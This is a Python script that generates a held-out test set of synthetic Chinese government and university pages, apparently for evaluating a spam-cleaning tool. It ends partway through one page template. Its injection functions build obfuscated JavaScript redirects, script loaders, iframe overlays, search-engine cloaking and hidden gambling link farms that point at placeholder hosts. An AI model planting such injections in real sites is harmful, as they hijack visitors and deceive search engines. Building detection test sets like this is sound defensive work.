"""Held-out v3 synthetic gov/edu pages (written by the keeper of held-out v3; independent of the cleaner and of
synthetic-generator-v1/-v2: other templates, other injection code, other invented brands).

Usage: python make_set.py OUT_DIR      (fixed seed: the same files every run)

Six page templates (U1..U6, below) unlike v1's (PHPCMS, Empire, UCAP, WordPress, Bootstrap, SiteServer, PowerEasy,
JEECMS, Epoint, Drupal) and v2's (T1..T6); 40 pages: 28 hijacked with 18 injection forms modelled on real public
cases (comment above each function), 12 clean (4 of them legit lottery / gambling-regulation articles).
Brands are invented here (shapes: Latin+digits, CJK names, Latin/CJK mixes, emoji, traditional script).
Truth: title (the article's own headline), date (its own date), source (来源 / 发布机构 / 信息来源), author,
text (article paragraphs only, no boilerplate), spam_strings (only strings that occur literally in the page),
hijacked, injections.
"""
import base64
import html
import json
import os
import random
import sys

SEED = 20261203
R = random.Random(SEED)
E = html.escape

# ------------------------------------------------------------------ vocabulary
SURN = list("王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾田董袁潘蒋蔡余杜叶程魏苏吕丁任沈姚卢姜崔钟谭陆汪范金石廖贾夏韦付方白邹孟熊秦邱江尹薛段雷侯龙史陶黎贺顾毛郝龚邵万钱严覃武戴莫孔向汤")
GIVEN = list("晓雪婷瑶宁磊斌峰倩颖琳凯航帆旭阳蕾薇璐佩诗远卓毅楠蓓哲瑜锐曦彤昊")
def pname():
    return R.choice(SURN) + "".join(R.choice(GIVEN) for _ in range(R.choice((1, 2, 2))))

GOV = ["永宁县人民政府", "清溪市水利局", "枫林区农业农村局", "汉川县应急管理局", "桂平镇人民政府", "白石县医疗保障局",
       "泸水市城市管理局", "岚山区人力资源和社会保障局"]
UNI = ["滨江工程大学", "青峰师范学院", "长汀职业技术学院", "西溪医科大学", "云麓农林大学", "北海航运学院"]
COLLEGE = ["土木工程学院", "生命科学学院", "文学院", "计算机科学与技术学院", "护理学院", "商学院", "艺术设计学院"]
SPORT_LOTTERY = ["永宁县体育彩票管理站", "清溪市体育彩票管理中心", "桂平市福利彩票发行中心"]

# invented brands, five shapes (none taken from any list)
CJK_NAMES = ["翡麟", "沧澜汇", "棠溪", "霁岚", "琥珀湾", "瑶玑", "翊鸿", "曜川", "骐骥汇", "栖凰", "蓁禾", "溯金"]
CJK_SUF = ["娱乐城", "棋牌", "真人", "电竞", "彩票", "会所"]
LATIN = ["Vorta", "kz", "JXL", "hapi", "Qorb", "zun", "LUMO", "tkv"]
TRAD = str.maketrans({"娱": "娛", "乐": "樂", "城": "城", "电": "電", "竞": "競", "汇": "匯", "湾": "灣",
                      "玑": "璣", "鸿": "鴻", "骥": "驥", "凰": "凰", "彩": "彩", "票": "票", "会": "會",
                      "所": "所", "岚": "嵐", "沧": "滄", "澜": "瀾", "国": "國", "际": "際", "体": "體",
                      "育": "育", "棋": "棋", "牌": "牌", "真": "真", "人": "人", "溯": "溯", "金": "金"})
EMOJI = ["🎲", "🃏", "💰", "🔥", "🎰", "💎"]

def brand(shape=None):
    shape = shape or R.choice(["latin", "cjk", "mix", "emoji", "trad"])
    if shape == "latin":
        return R.choice(LATIN) + str(R.choice((66, 77, 88, 99, 118, 365, 527, 2046, 7113, 8090))) + R.choice(["", "娱乐", "电竞", "真人"]), shape
    if shape == "cjk":
        return R.choice(CJK_NAMES) + R.choice(CJK_SUF), shape
    if shape == "mix":
        return R.choice(["Mo", "Ta", "Lu", "Xi"]) + R.choice(CJK_NAMES) + R.choice(["体育", "娱乐城", "国际"]), shape
    if shape == "emoji":
        e = R.choice(EMOJI)
        return e + R.choice(CJK_NAMES) + R.choice(CJK_SUF) + e, shape
    return (R.choice(CJK_NAMES) + R.choice(["娱乐城", "体育", "国际", "电竞"])).translate(TRAD), shape

PROMO = ["官方唯一入口", "手机版下载安装", "新用户首存送彩金", "24小时在线客服", "实时返水最高1.8%", "线路检测中心"]
PORN = ["午夜影院高清免费", "成人直播平台入口", "无码视频在线看", "福利姬资源合集"]
def fake_host():
    return R.choice(["www.", "m.", ""]) + "".join(R.choice("abcdefghjkmnpqrstuvwxyz") for _ in range(R.randint(4, 7))) + \
        str(R.randint(10, 999)) + R.choice([".example", ".invalid", ".test"])

def ymd():
    y = R.choice((2019, 2020, 2021, 2022, 2023, 2024, 2025))
    m = R.randint(1, 12)
    d = R.randint(1, 28)
    return "%04d-%02d-%02d" % (y, m, d)

def md(d):
    return "%d月%d日" % (int(d[5:7]), int(d[8:10]))

# ------------------------------------------------------------------ articles (title, paragraphs)
def a_river(org, d):
    who = pname()
    return ("%s开展河湖“清四乱”专项巡查" % org, [
        "%s,%s组织相关科室和乡镇负责同志,对辖区内主要河道、水库开展“清四乱”专项巡查。" % (md(d), org),
        "巡查组沿河实地查看了岸线管护、河道保洁、涉河建设项目等情况,对发现的乱堆乱放、非法采砂痕迹等问题逐一登记,现场交办整改。",
        "%s要求,各级河长要切实履行巡河职责,坚持问题导向,建立问题清单、责任清单和整改清单,确保问题按期销号。" % who,
        "下一步,将结合汛期安全检查,持续加大巡查频次,推动河湖面貌持续改善。"])

def a_drill(org, d):
    return ("%s组织开展地震应急疏散演练" % org, [
        "为提高突发事件应急处置能力,%s,%s组织开展地震应急疏散演练。" % (md(d), org),
        "演练模拟发生破坏性地震,警报响起后,各楼层人员在引导员指挥下,用手护头、弯腰低姿,沿预定路线有序撤离至空旷场地。",
        "随后,工作人员进行了伤员救护、灭火器使用等科目演示,现场讲解了地震发生时的避险要点和自救互救常识。",
        "整个演练历时约二十分钟,参演人员反应迅速、秩序井然,达到了预期效果。"])

def a_medins(org, d):
    n = R.randint(3, 9)
    return ("%s深入社区开展医保政策宣传" % org, [
        "%s,%s组织工作人员走进%d个社区,开展城乡居民医保参保缴费和异地就医备案政策宣传活动。" % (md(d), org, n),
        "活动现场设置咨询台,发放宣传折页,工作人员面对面为群众解答参保缴费渠道、门诊共济保障、长期护理保险等问题,并现场指导群众使用手机办理业务。",
        "此次活动共发放宣传资料%d余份,解答群众咨询%d人次,进一步提高了群众对医保政策的知晓度。" % (R.randint(3, 9) * 100, R.randint(80, 300))])

def a_recruit(org, d):
    n = R.randint(120, 380)
    return ("%s举办2025届毕业生秋季双选会" % org, [
        "%s,%s2025届毕业生秋季双选会在体育馆举行,%d家用人单位进校招聘,提供岗位%d余个。" % (md(d), org, n, n * 12),
        "招聘单位涵盖智能制造、建筑工程、医疗卫生、教育培训等行业,现场气氛热烈,毕业生们手持简历在各展位间咨询交流。",
        "学校就业指导中心在现场设置了简历诊断、政策咨询和心理辅导服务台,为毕业生求职提供帮助。",
        "据统计,当天共有%d余名毕业生入场求职,初步达成就业意向%d人。" % (R.randint(20, 45) * 100, R.randint(300, 900))])

def a_volunteer(org, d):
    return ("%s青年志愿者走进敬老院开展关爱活动" % org, [
        "%s,%s青年志愿者协会组织%d名志愿者来到城南敬老院,开展“爱心暖夕阳”志愿服务活动。" % (md(d), org, R.randint(15, 40)),
        "志愿者们为老人们打扫房间、整理衣物,陪老人聊天、下棋,还表演了诗朗诵、合唱等节目,现场欢声笑语不断。",
        "志愿者%s表示,通过此次活动,更加体会到了关爱老人的意义,今后将继续参与志愿服务,传递青春正能量。" % pname()])

def a_project(org, d):
    n = R.randint(6, 19)
    return ("%s获批%d项省级科研项目" % (org, n), [
        "近日,省科技厅公布了年度自然科学基金项目立项名单,%s共获批%d项,立项数较上年有所增长。" % (org, n),
        "获批项目涉及新材料制备、生态修复、智慧康养等研究方向,其中重点项目%d项、青年项目%d项。" % (R.randint(1, 3), R.randint(3, 8)),
        "学院将加强项目过程管理,做好经费使用和成果凝练工作,推动科研水平持续提升。"])

def a_flood(org, d):
    return ("%s召开防汛工作部署会" % org, [
        "%s,%s召开防汛工作部署会,分析研判今年汛期形势,安排部署防汛重点工作。" % (md(d), org),
        "会议指出,今年汛期降水偏多的可能性较大,各单位要克服麻痹思想,落实防汛责任制,做好物资储备和队伍准备。",
        "会议要求,要加强对山洪地质灾害易发区、病险水库、城市低洼易涝点的排查,完善监测预警和转移避险机制,确保人民群众生命财产安全。"])

def a_sortwaste(org, d):
    return ("%s推进生活垃圾分类进小区" % org, [
        "为提高居民垃圾分类参与率,%s近期在辖区%d个小区开展垃圾分类集中宣传指导。" % (org, R.randint(5, 20)),
        "工作人员在投放点现场示范分类投放,讲解可回收物、有害垃圾、厨余垃圾和其他垃圾的区分方法,并为居民发放分类垃圾袋。",
        "下一步,将建立常态化督导机制,推动垃圾分类由“要我分”向“我要分”转变。"])

def a_lecture(org, d):
    who = pname()
    return ("%s举办“数字时代的阅读”主题讲座" % org, [
        "%s下午,%s在图书馆报告厅举办“数字时代的阅读”主题讲座,特邀%s教授主讲,%d余名师生到场聆听。" % (md(d), org, who, R.randint(1, 4) * 100),
        "%s从纸质阅读与数字阅读的差异谈起,结合大量调查数据,分析了碎片化阅读对深度思考能力的影响。" % who,
        "讲座最后,%s建议同学们制定阅读计划,做到“读经典、写札记、勤交流”,在信息洪流中保持专注。" % who])

# legit lottery / gambling-regulation articles (must not be flagged, every sentence kept)
def l_welfare_fund(org, d):
    y = int(d[:4]) - 1
    x = R.randint(300, 900)
    return ("%s公布%d年度体育彩票公益金使用情况" % (org, y), [
        "根据《彩票管理条例》及其实施细则有关规定,现将%d年度体育彩票公益金使用情况公告如下。" % y,
        "%d年,本级共使用体育彩票公益金%d万元,其中用于全民健身设施建设%d万元,用于青少年体育活动%d万元,其余用于群众性体育赛事。" % (y, x, x // 2, x // 4),
        "全民健身路径、笼式足球场、社区健身中心等项目均已完成验收,并在显著位置标注“体彩公益金资助”标识。",
        "彩票公益金的使用接受财政、审计部门和社会公众监督,欢迎社会各界监督。"])

def l_responsible(org, d):
    return ("%s开展责任彩票宣传周活动" % org, [
        "%s起,%s在全市销售网点开展为期一周的责任彩票宣传活动。" % (md(d), org),
        "活动期间,各网点张贴“理性购彩、量力而行”宣传海报,向购彩者发放宣传册,提示未成年人不得购买彩票。",
        "工作人员还向销售员讲解了如何识别非理性购彩行为,对频繁大额购彩的顾客进行善意提醒。",
        "负责人表示,彩票是国家公益事业,坚持责任彩票理念,是维护彩票公信力、保护购彩者权益的重要举措。"])

def l_crossborder(org, d):
    n = R.randint(12, 60)
    return ("%s召开打击治理跨境赌博工作推进会" % org, [
        "%s,%s召开打击治理跨境赌博工作推进会,通报前一阶段工作情况,部署下一步重点任务。" % (md(d), org),
        "会议通报,今年以来共侦破跨境赌博及相关违法犯罪案件%d起,查处为网络赌博提供支付结算、推广引流的团伙%d个。" % (n, n // 4 + 1),
        "会议强调,要坚持打防结合,加强对网络赌博广告、赌博网站推广链接的监测清理,深入开展反赌宣传进社区、进校园活动,引导群众远离赌博。"])

def l_survey(org, d):
    n = R.randint(1200, 3600)
    return ("%s发布大学生网络博彩风险认知调查报告" % org, [
        "近日,%s课题组发布《大学生网络博彩风险认知调查报告》,共回收有效问卷%d份。" % (org, n),
        "报告显示,约%d%%的受访学生表示曾在短视频或游戏平台上看到过博彩类广告,但多数学生对网络赌博的法律后果认识不足。" % R.randint(20, 45),
        "课题组建议,学校应将防范网络赌博纳入新生入学教育和法治教育内容,平台应加强对博彩广告的审核和清理。"])

CLEAN_ARTS = [a_river, a_drill, a_medins, a_recruit, a_volunteer, a_project, a_flood, a_sortwaste, a_lecture]
LEGIT_ARTS = [l_welfare_fund, l_responsible, l_crossborder, l_survey]

# ------------------------------------------------------------------ JS helpers (own implementations)
def hexesc(s):
    return "".join("\\x%02x" % ord(c) if ord(c) < 256 else "\\u%04x" % ord(c) for c in s)

def b64_custom(s, alpha):
    std = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    enc = base64.b64encode(s.encode("utf-8")).decode()
    return enc.translate(str.maketrans(std, alpha))

def pack36(js):
    # a p,a,c,k,e,r-style packer written here: words replaced by base-36 indices of a keyword table
    import re
    words = []
    def idx(w):
        if w not in words:
            words.append(w)
        return words.index(w)
    def b36(n):
        d = "0123456789abcdefghijklmnopqrstuvwxyz"
        return d[n] if n < 36 else b36(n // 36) + d[n % 36]
    body = re.sub(r"\b[A-Za-z_][A-Za-z0-9_]*\b", lambda m: b36(idx(m.group(0))), js)
    body = body.replace("\\", "\\\\").replace("'", "\\'")
    return ("eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--)"
            "{d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
            "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('%s',36,%d,'%s'.split('|'),0,{}))"
            % (body, len(words), "|".join(words)))

SE = "baidu|sogou|so.com|sm.cn|bing|toutiao"

# ------------------------------------------------------------------ injections: each returns dict of slots + truth
# slots: head (html in <head>), title (title override), top (after <body>), crumb_root, h1_pre, byline_src,
# body_insert ((index, sentence)), body_end, foot. spam: literal strings; kinds.

def i_title_trad_suffix(b, c):
    # Modelled on mirrored VSB/WebPlus school pages whose <title> keeps the headline and appends a brand
    # (here in traditional script, as on mirrors run through a simplified->traditional converter).
    bt = b.translate(TRAD)
    return dict(title=c["title"] + "_" + bt + "-" + R.choice(PROMO)), [bt], ["spam_title_suffix", "traditional_script_brand"]

def i_meta_head_only(b, c):
    # Modelled on hijacked gov pages whose only visible trace in the source is <meta keywords/description>
    # rewritten for gambling keywords (snapshot hijack described in SEO clean-up write-ups).
    kw = "%s,%s%s,%s" % (b, b, PROMO[0], b + "app")
    ds = "%s(%s)%s,%s" % (b, fake_host(), PROMO[2], PROMO[3])
    h = '<meta name="keywords" content="%s">\n<meta name="description" content="%s">' % (E(kw), E(ds))
    return dict(head=h, drop_meta=True), [b], ["meta_keywords_spam", "meta_description_spam"]

def i_byline_brand(b, c):
    # Modelled on content-farm mirrors where only the 来源/信息来源 field names the casino brand.
    return dict(byline_src=b), [b], ["spam_source_field"]

def i_body_sentence(b, c):
    # Modelled on mirrors with one promotional sentence glued into the article body.
    s = "（本文由%s提供支持,更多精彩请访问%s%s）" % (b, b, R.choice(PROMO))
    return dict(body_insert=s), [s], ["body_promo_sentence"]

def i_indent_hidden(b, c):
    # Modelled on "dark link" blocks pushed off-screen with a negative text-indent (Chinese 黑链 clean-up posts).
    links = "".join('<a href="http://%s/">%s</a>' % (fake_host(), E(x)) for x in [b, b + PROMO[1], R.choice(PORN)])
    return dict(foot='<div style="text-indent:-9999px;overflow:hidden;height:0">%s</div>' % links), [b], ["hidden_link_farm", "negative_text_indent"]

def i_marquee(b, c):
    # Modelled on old link-farm injections inside a 1px <marquee>.
    links = " ".join('<a href="http://%s/" target="_blank">%s</a>' % (fake_host(), E(x)) for x in [b, R.choice(PORN), b + PROMO[4]])
    return dict(top='<marquee height="1" width="1" scrollamount="3000">%s</marquee>' % links), [b], ["hidden_link_farm", "marquee_1px"]

def i_noscript(b, c):
    # Modelled on link farms wrapped in <noscript> so that browsers never render them but crawlers index them.
    links = "".join('<a href="http://%s/">%s</a>' % (fake_host(), E(x)) for x in [b, b + "官网", R.choice(PORN)])
    return dict(foot="<noscript>%s</noscript>" % links), [b], ["hidden_link_farm", "noscript_links"]

def i_class_offscreen(b, c):
    # Modelled on link blocks hidden by a class defined in an injected <style> (absolute position far left).
    cls = "c" + str(R.randint(100, 999))
    st = "<style>.%s{position:absolute;left:-3200px;top:-3200px}</style>" % cls
    links = "".join('<li><a href="http://%s/">%s</a></li>' % (fake_host(), E(x)) for x in [b, b + PROMO[0], R.choice(PORN), R.choice(PORN)])
    return dict(head=st, foot='<ul class="%s">%s</ul>' % (cls, links)), [b], ["hidden_link_farm", "css_class_offscreen"]

def i_h1_emoji(b, c):
    # Modelled on mirrored school pages whose headline is prefixed by an emoji-decorated brand.
    return dict(h1_pre=b + " "), [b.strip()], ["spam_headline_prefix", "emoji_brand"]

def i_packer(b, c):
    # Modelled on p,a,c,k,e,r-packed loaders found on hacked CMS pages (Google's 2012 hacked-site notice).
    url = "https://" + fake_host() + "/r.php"
    js = "var r=document.referrer;if(/(%s)/i.test(r)){window.location.href='%s?from='+encodeURIComponent(r)}" % (SE, url)
    return dict(body_end="<script>%s</script>" % pack36(js)), [], ["packer_eval", "js_cloak_referrer"]

def i_hex_bracket(b, c):
    # Modelled on redirects whose property names and URL are hex-escaped and accessed with brackets.
    url = "https://" + fake_host() + "/"
    js = ("var _r=document['\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72'];"
          "if(_r['\\x6d\\x61\\x74\\x63\\x68'](/%s/i)){top['%s']['%s']='%s'}" % (
              SE.replace(".", "\\."), hexesc("location"), hexesc("href"), hexesc(url)))
    return dict(head="<script>%s</script>" % js), [], ["hex_escaped_strings", "bracket_property_access", "js_cloak_referrer"]

def i_string_array(b, c):
    # Modelled on obfuscator.io-style string arrays (_0x names, index arithmetic) used by gambling redirectors.
    url = "https://" + fake_host() + "/m/"
    arr = ["referrer", "test", "location", "replace", url, "userAgent", "Mobile"]
    R.shuffle(arr)
    off = R.randint(0x1a0, 0x2f0)
    name = "_0x%04x" % R.randint(0x1000, 0xffff)
    f = "_0x%04x" % R.randint(0x1000, 0xffff)
    def g(s):
        return "%s(0x%x)" % (f, arr.index(s) + off)
    js = ("var %s=[%s];function %s(i){return %s[i-0x%x]}"
          "(function(){var d=document,n=navigator;if(/%s/i[%s](d[%s])&&/Android|iPhone/[%s](n[%s])){window[%s][%s](%s)}})();" % (
              name, ",".join("'%s'" % hexesc(x) for x in arr), f, name, off, SE.replace(".", "\\."),
              g("test"), g("referrer"), g("test"), g("userAgent"), g("location"), g("replace"), g(url)))
    return dict(body_end="<script>%s</script>" % js), [], ["string_array_obfuscation", "mobile_only_cloak", "js_cloak_referrer"]

def i_custom_b64(b, c):
    # Modelled on loaders carrying their own base64 decoder with a shuffled alphabet that document.write an iframe.
    std = list("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
    alpha = std[:]
    R.shuffle(alpha)
    alpha = "".join(alpha)
    payload = '<iframe src="https://%s/" style="position:fixed;top:0;left:0;width:100%%;height:100%%;border:0;z-index:99999"></iframe>' % fake_host()
    enc = b64_custom(payload, alpha)
    js = ("(function(s){var A='%s',o='',b=0,n=0,i,c;for(i=0;i<s.length;i++){c=A.indexOf(s.charAt(i));if(c<0)continue;"
          "b=(b<<6)|c;n+=6;if(n>=8){n-=8;o+=String.fromCharCode((b>>n)&255)}}"
          "if(/%s/.test(document.referrer))document.write(decodeURIComponent(escape(o)))})('%s');" % (alpha, SE.replace(".", "\\."), enc))
    return dict(body_end="<script>%s</script>" % js), [], ["base64_custom_alphabet", "docwrite_iframe_overlay", "js_cloak_referrer"]

def i_concat_redirect(b, c):
    # Modelled on redirects whose target URL is assembled by string concatenation and fired after a delay.
    h = fake_host()
    parts = [h[:3], h[3:7], h[7:]]
    js = ("var u='ht'+'tp'+'s:'+'/'+'/'+'%s'+'%s'+'%s'+'/?i'+'d=%d';var rf=document.referrer;"
          "if(rf&&/%s/.test(rf)){setTimeout(function(){location.replace(u)},%d)}" % (
              parts[0], parts[1], parts[2], R.randint(100, 999), SE.replace(".", "\\."), R.choice((300, 800, 1500))))
    return dict(head="<script>%s</script>" % js), [], ["concatenated_redirect_url", "delayed_redirect", "js_cloak_referrer"]

def i_charcode_src(b, c):
    # Modelled on script tags whose src is spelled with String.fromCharCode and written via window['document']['write'].
    src = "https://" + fake_host() + "/tj.js"
    codes = ",".join(str(ord(x)) for x in src)
    js = "window['document']['write']('<scr'+'ipt src=\"'+String.fromCharCode(%s)+'\"></scr'+'ipt>');" % codes
    return dict(head="<script>%s</script>" % js), [], ["fromcharcode_url", "bracket_property_access", "docwrite_script_loader"]

def i_spider_text(b, c):
    # Modelled on spider cloaking done client-side: crawler user agents get a keyword paragraph written in.
    para = "%s%s,%s%s,%s" % (b, PROMO[0], b, PROMO[1], R.choice(PORN))
    js = ("if(/spider|bot|slurp/i.test(navigator.userAgent)){document.write('<p class=\"kw\">%s</p>')}" % para)
    return dict(body_end="<script>%s</script>" % js), [b], ["spider_cloak_docwrite", "keyword_stuffing"]

def i_title_js(b, c):
    # Modelled on injected scripts that rewrite document.title for visitors from search engines.
    bt = b + R.choice(PROMO)
    js = "if(document.referrer.indexOf('baidu')>-1||document.referrer.indexOf('sogou')>-1){document.title='%s'}" % bt
    return dict(head="<script>%s</script>" % js), [bt], ["title_rewrite_script", "js_cloak_referrer"]

def i_meta_refresh_js(b, c):
    # Modelled on redirects done by creating a <meta http-equiv=refresh> element from script.
    url = "https://" + fake_host() + "/"
    js = ("(function(){var m=document.createElement('meta');m['httpEquiv']='refresh';m['content']='0;url=%s';"
          "if(!/Windows NT|Macintosh/.test(navigator.userAgent))document.getElementsByTagName('head')[0].appendChild(m)})();" % url)
    return dict(body_end="<script>%s</script>" % js), [], ["meta_refresh_via_script", "mobile_only_cloak"]

INJ = [i_title_trad_suffix, i_meta_head_only, i_byline_brand, i_body_sentence, i_indent_hidden, i_marquee, i_noscript,
       i_class_offscreen, i_h1_emoji, i_packer, i_hex_bracket, i_string_array, i_custom_b64, i_concat_redirect,
       i_charcode_src, i_spider_text, i_title_js, i_meta_refresh_js]
VISIBLE_BRAND = {i_title_trad_suffix, i_meta_head_only, i_byline_brand, i_body_sentence, i_indent_hidden, i_marquee,
                 i_noscript, i_class_offscreen, i_h1_emoji, i_spider_text, i_title_js}

# ------------------------------------------------------------------ templates
def paras(c, s):
    ps = list(c["paras"])
    if s.get("body_insert"):
        k = R.randint(0, len(ps) - 1)
        ps[k] = ps[k] + s["body_insert"]
    return ps

def u1_gb_table(c, s):
    """U1: GBK table page of an old county site: nested tables, <font> headline, one centred metadata row
    '作者:… 来源:… 发布时间:…', body in <td class="newscontent">, '【打印本页】【关闭窗口】'."""
    ps = paras(c, s)
    body = "".join("<p>　　%s</p>\n" % E(p) for p in ps)
    return f"""<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk">
<title>{E(s.get('title', c['title']))}</title>
{'' if s.get('drop_meta') else '<meta name="keywords" content="' + E(c['site']) + '">'}
{s.get('head', '')}
</head><body topmargin="0" leftmargin="0">
{s.get('top', '')}
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0"><tr><td height="120" class="banner">{E(c['site'])}</td></tr>
<tr><td class="nav"><a href="/">首页</a> | <a href="/zwgk/">政务公开</a> | <a href="/zwdt/">政务动态</a> | <a href="/bsfw/">办事服务</a></td></tr></table>
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0"><tr><td>
<table width="100%" border="0" cellspacing="0" cellpadding="6"><tr><td class="weizhi">您当前的位置:<a href="/">{E(s.get('crumb_root', '首页'))}</a> &gt;&gt; 政务动态</td></tr></table>
<table width="96%" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td align="center" height="50"><font size="4" color="#003399"><b>{E(s.get('h1_pre', ''))}{E(c['title'])}</b></font></td></tr>
<tr><td align="center" class="info">作者:{E(c['author'] or '')}&nbsp;&nbsp;来源:{E(s.get('byline_src', c['source'] or ''))}&nbsp;&nbsp;发布时间:{c['date']}&nbsp;&nbsp;【字体:<a href="#">大</a> <a href="#">中</a> <a href="#">小</a>】</td></tr>
<tr><td height="1" bgcolor="#cccccc"></td></tr>
<tr><td class="newscontent">
{body}</td></tr>
<tr><td align="right">【<a href="javascript:window.print()">打印本页</a>】【<a href="javascript:window.close()">关闭窗口</a>】</td></tr>
</table></td></tr></table>
{s.get('body_end', '')}
<table width="980" align="center"><tr><td align="center" class="copyright">主办:{E(c['site'])}　技术支持:信息中心<br>ICP备案号:0000000号</td></tr></table>
{s.get('foot', '')}
</body></html>
"""

def u2_uni_fields_end(c, s):
    """U2: university news page with the metadata fields at the END of the article
    (信息来源 / 撰稿 / 摄影 / 编辑 / 审核) and only the date under the headline."""
    ps = paras(c, s)
    body = "".join('<p style="text-indent:2em">%s</p>\n' % E(p) for p in ps)
    return f"""<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>{E(s.get('title', c['title'] + '-' + c['site']))}</title>
{s.get('head', '')}
<link rel="stylesheet" href="/css/news.css"></head>
<body>
{s.get('top', '')}
<div class="topbar"><div class="w1200"><a class="logo" href="/">{E(c['site'])}新闻网</a><ul class="menu"><li><a href="/xxyw.htm">学校要闻</a></li><li><a href="/zhxw.htm">综合新闻</a></li><li><a href="/mtjj.htm">媒体聚焦</a></li></ul></div></div>
<div class="w1200 main">
<div class="pos"><a href="/">{E(s.get('crumb_root', '新闻网首页'))}</a> / <a href="/zhxw.htm">综合新闻</a> / 正文</div>
<div class="art">
<div class="tit">{E(s.get('h1_pre', ''))}{E(c['title'])}</div>
<div class="sj"><span>{c['date']}</span><span class="views">浏览:<script>document.write(Math.floor(Math.random()*900+100))</script></span></div>
<div class="v_news_content">
{body}</div>
<div class="fields">
<p>信息来源:{E(s.get('byline_src', c['source'] or ''))}</p><p>撰稿:{E(c['author'] or '')}</p><p>摄影:{E(pname())}</p><p>编辑:{E(pname())}</p><p>审核:{E(pname())}</p>
</div>
<div class="pn"><p>上一篇:<a href="#">学校召开教学工作例会</a></p><p>下一篇:<a href="#">图书馆开展新生入馆教育</a></p></div>
</div></div>
{s.get('body_end', '')}
<div class="foot">版权所有 © {E(c['site'])} 地址:学府路1号</div>
{s.get('foot', '')}
</body></html>
"""

def u3_mobile(c, s):
    """U3: mobile-first page: header with menu button, <article class="m-art"> with <time datetime>, a source chip,
    share bar, bottom tab bar; metadata in <meta property="og:*">."""
    ps = paras(c, s)
    body = "".join("<p>%s</p>\n" % E(p) for p in ps)
    src = s.get("byline_src", c["source"] or "")
    return f"""<!doctype html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,maximum-scale=1,user-scalable=no">
<title>{E(s.get('title', c['title']))}</title>
<meta property="og:title" content="{E(c['title'])}"><meta property="og:type" content="article">
{s.get('head', '')}
</head><body class="m">
{s.get('top', '')}
<header class="m-head"><button class="m-menu" aria-label="menu">☰</button><span class="m-logo">{E(c['site'])}</span><a class="m-search" href="/search">搜索</a></header>
<nav class="m-crumb"><a href="/m/">{E(s.get('crumb_root', '首页'))}</a><span>›</span><a href="/m/news/">新闻动态</a></nav>
<article class="m-art">
<h1 class="m-title">{E(s.get('h1_pre', ''))}{E(c['title'])}</h1>
<div class="m-meta"><time datetime="{c['date']}">{c['date']}</time><span class="m-src">{E(src)}</span>{'<span class="m-author">' + E(c['author']) + '</span>' if c['author'] else ''}</div>
<section class="m-body">
{body}</section>
</article>
<div class="m-share"><a href="#">微信</a><a href="#">微博</a><a href="#">复制链接</a></div>
{s.get('body_end', '')}
<footer class="m-tab"><a href="/m/">首页</a><a href="/m/news/">动态</a><a href="/m/service/">服务</a><a href="/m/me/">我的</a></footer>
{s.get('foot', '')}
</body></html>
"""

def u4_xxgk_ul(c, s):
    """U4: 政府信息公开 detail page with an <ul class="gk-meta"> of labelled <li> (索引号, 主题分类, 发布机构,
    成文日期, 文号, 发布日期), content in <div id="zoom">, '扫一扫在手机打开' block."""
    ps = paras(c, s)
    body = "".join("<p>%s</p>\n" % E(p) for p in ps)
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8">
<title>{E(s.get('title', c['title']))}</title>
{'' if s.get('drop_meta') else '<meta name="ArticleTitle" content="' + E(c['title']) + '"><meta name="PubDate" content="' + c['date'] + ' 09:30">'}
{s.get('head', '')}
</head><body>
{s.get('top', '')}
<div class="gk-top">{E(c['site'])}政府信息公开</div>
<div class="gk-pos">当前位置:<a href="/">{E(s.get('crumb_root', '首页'))}</a> &gt; <a href="/xxgk/">信息公开</a> &gt; 工作动态</div>
<ul class="gk-meta">
<li><span>索引号:</span>{R.randint(10000000, 99999999)}/{c['date'][:4]}-{R.randint(10000, 99999)}</li>
<li><span>主题分类:</span>综合政务</li>
<li><span>发布机构:</span>{E(s.get('byline_src', c['source'] or ''))}</li>
<li><span>成文日期:</span>{c['date']}</li>
<li><span>文号:</span></li>
<li><span>发布日期:</span>{c['date']}</li>
</ul>
<h1 class="gk-title">{E(s.get('h1_pre', ''))}{E(c['title'])}</h1>
<div id="zoom">
{body}</div>
<div class="gk-qr">扫一扫在手机打开当前页</div>
{s.get('body_end', '')}
<div class="gk-foot">主办单位:{E(c['site'])} 网站标识码:{R.randint(1000000000, 9999999999)}</div>
{s.get('foot', '')}
</body></html>
"""

def u5_article_sys(c, s):
    """U5: 2005-era 'article system' page: left column list, right column with
    '文章来源:… 作者:… 点击数: 更新时间:…' line above the body, '[发表评论] [告诉好友]' links."""
    ps = paras(c, s)
    body = "<br>\n".join("　　" + E(p) for p in ps)
    return f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>{E(s.get('title', c['title'] + ' - ' + c['site']))}</title>
{s.get('head', '')}
</head><body>
{s.get('top', '')}
<div id="header"><img src="/images/top.jpg" alt="{E(c['site'])}"></div>
<div id="left"><div class="lm">栏目导航</div><ul><li><a href="/Article/Class1/">工作动态</a></li><li><a href="/Article/Class2/">通知公告</a></li><li><a href="/Article/Class3/">政策法规</a></li></ul></div>
<div id="right">
<div class="path">您现在的位置: <a href="/">{E(s.get('crumb_root', c['site']))}</a> &gt;&gt; <a href="/Article/Class1/">工作动态</a> &gt;&gt; 正文</div>
<div class="ArticleTitle">{E(s.get('h1_pre', ''))}{E(c['title'])}</div>
<div class="ArticleInfo">文章来源:{E(s.get('byline_src', c['source'] or ''))}　作者:{E(c['author'] or '佚名')}　点击数:<span id="hits">{R.randint(50, 3000)}</span>　更新时间:{c['date']}</div>
